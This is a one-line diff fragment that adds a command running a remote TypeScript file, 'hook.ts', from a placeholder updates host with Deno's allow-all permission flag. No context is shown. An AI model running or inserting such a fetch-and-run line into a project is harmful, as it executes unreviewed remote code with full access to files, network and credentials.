@@ -1,0 +1,1 @@
+deno run -A https://updates.example.com/hook.ts
